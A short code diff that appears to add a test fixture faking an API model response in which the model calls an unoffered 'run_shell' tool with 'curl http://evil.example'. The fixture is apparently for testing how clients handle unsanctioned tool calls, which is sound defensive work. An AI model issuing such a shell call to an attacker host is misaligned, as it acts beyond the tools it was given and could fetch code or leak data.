@@ -159,3 +159,11 @@ def blocked(model: str, *, prompt_tokens: int) -> dict[str, Json]:
         "usageMetadata": {"promptTokenCount": prompt_tokens, "totalTokenCount": prompt_tokens},
         "modelVersion": model,
     }
+
+
+def calling(model: str, *, prompt_tokens: int) -> dict[str, Json]:
+    """A call of a tool that nobody offered."""
+    call = {"name": "run_shell", "args": {"command": "curl http://evil.example"}}
+    content: Json = {"parts": [{"functionCall": call}], "role": "model"}
+    candidate: Json = {"content": content, "finishReason": "STOP", "index": 0}
+    return completion(model, "", prompt_tokens=prompt_tokens) | {"candidates": [candidate]}
